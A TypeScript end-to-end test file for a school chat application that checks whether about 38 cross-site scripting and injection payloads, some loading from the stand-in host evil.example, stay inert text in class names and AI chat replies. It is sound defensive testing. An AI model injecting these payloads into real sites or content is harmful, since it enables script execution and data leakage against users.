import { createClient } from '@raptscallions/client/create_client';
import { newId } from '@raptscallions/zod-schemas/rich_id';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type GatewayStub, startGatewayStub } from '../../backend/src/test/gateway_stub/start_gateway_stub';
import { launchBrowser, people, signIn, upToDate } from './browser';
import { Installation } from './installation';

const far = 'https://evil.example/x';
/** Each would set `__pwn`, open a dialog or call `evil.example`, were it anything but text. */
const attacks = [
  '<script>__pwn=1</script>',
  '<script src=//evil.example/x></script>',
  '<img src=x onerror=__pwn=1>',
  `<img src=${far}>`,
  '<svg onload=__pwn=1>',
  '<svg><script>__pwn=1</script></svg>',
  '<svg><a xlink:href=javascript:__pwn=1><text>x</text></a></svg>',
  '<body onload=__pwn=1>',
  '<iframe src=javascript:parent.__pwn=1></iframe>',
  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  '<details open ontoggle=__pwn=1>',
  '<video><source onerror=__pwn=1></video>',
  '<input autofocus onfocus=__pwn=1>',
  '<math><mtext><img src=x onerror=__pwn=1></mtext></math>',
  `<link rel=stylesheet href=${far}>`,
  `<style>@import url(${far})</style>`,
  `<style>*{background:url(${far})}</style>`,
  `<p style="background:url(${far})">x</p>`,
  `<meta http-equiv=refresh content="0;url=${far}">`,
  `<base href=${far}>`,
  `<form action=${far}><input autofocus></form>`,
  `<object data=${far}></object>`,
  `<embed src=${far}>`,
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=confirm(1)>",
  '</title><script>alert(1)</script>',
  '<a href="javascript:__pwn=1">x</a>',
  '[x](javascript:__pwn=1)',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>__pwn=1</script>)',
  `![x](${far})`,
  `![x][evil]\n\n[evil]: ${far}`,
  '<javascript:__pwn=1>',
  '\\href{javascript:__pwn=1}{x}',
  `\\includegraphics{${far}}`,
  '\\htmlData{onload=__pwn=1}{x}',
  '{{constructor.constructor("__pwn=1")()}}',
  `=HYPERLINK("${far}")`,
];
const dresses: ((text: string) => string)[] = [
  (text) => text,
  (text) => `**${text}**`,
  (text) => `- ${text}`,
  (text) => `> ${text}`,
  (text) => `$${text}$`,
  (text) => `| a |\n|---|\n| ${text} |`,
];
const hostile = dresses.flatMap((dress) => attacks.map(dress));

let stub: GatewayStub;
let installation: Installation;
let browser: Browser;
beforeAll(async () => {
  stub = await startGatewayStub();
  installation = await Installation.start({
    AI_GATEWAY_URL: stub.url,
    AI_API_KEY: 'key',
    AI_DEFAULT_MODEL: 'stub',
  });
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await installation?.stop();
  await stub?.close();
});

/** Whatever a page did that text must not do. */
function watch(page: Page) {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol.startsWith('http') && origin !== installation.url) seen.push(`a request: ${request.url()}`);
  });
  return async () => {
    if (await page.evaluate(() => '__pwn' in window)) seen.push('a script ran');
    if (page.url().startsWith(installation.url)) return seen;
    return [...seen, `the page went to ${page.url()}`];
  };
}

test('there are two hundred of them', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(200);
});

test.each([
  ['with the content security policy', false],
  ['without it, so that one wall is not proved by the other', true],
])('hostile text stays text %s: names, questions and answers', async (_, bypassCSP) => {
  const api = await createClient(installation.url, {
    email: 'd.hollis@fenmoor.example',
    password: 'scallion-demo',
  });
  const { items } = await api.classes.list({ limit: 1 });
  const groupId = items[0]?.groupId;
  if (!groupId) throw new Error('the demo school has no class');
  let made = 0;
  for (const [at, text] of hostile.entries()) {
    const name = `${text.slice(0, 92)} ${bypassCSP ? 'b' : 'a'}${at}`;
    await api.classes.create({ classId: newId('class'), groupId, name });
    made++;
  }
  expect(made).toBeGreaterThanOrEqual(200);
  const admin = await signIn(browser, installation.url, people.admin, { bypassCSP });
  const deedsOfNames = watch(admin.page);
  await admin.page.goto(`${installation.url}/classes`);
  await admin.page.getByText('__pwn=1').first().waitFor();
  await upToDate(admin.page);
  expect(await deedsOfNames()).toEqual([]);

  const { page } = await signIn(browser, installation.url, people.pupil, { bypassCSP });
  const deeds = watch(page);
  const path = await page.locator('a[href^="/assignments/"]').first().getAttribute('href');
  await page.goto(`${installation.url}${path}`);
  await page.getByRole('button', { name: 'More' }).click();
  const again = page.getByRole('menuitem', { name: 'Start again' });
  if (await again.count()) await again.click();
  else await page.keyboard.press('Escape');
  await expect.poll(() => page.getByText('end of this answer').count()).toBe(0);
  for (const dress of dresses) {
    const text = attacks.map(dress).join('\n\n');
    stub.script({ kind: 'ok', text: `${text}\n\nend of this answer` });
    const before = await page.getByText('end of this answer').count();
    await page.getByLabel('Message', { exact: true }).fill(text);
    await page.getByLabel('Message', { exact: true }).press('Enter');
    await expect
      .poll(() => page.getByText('end of this answer').count(), { timeout: 20_000 })
      .toBeGreaterThan(before);
    await expect.poll(() => page.locator('.msg[aria-busy="true"]').count(), { timeout: 20_000 }).toBe(0);
    expect(await deeds()).toEqual([]);
  }
  await admin.context.close();
  await page.context().close();
});
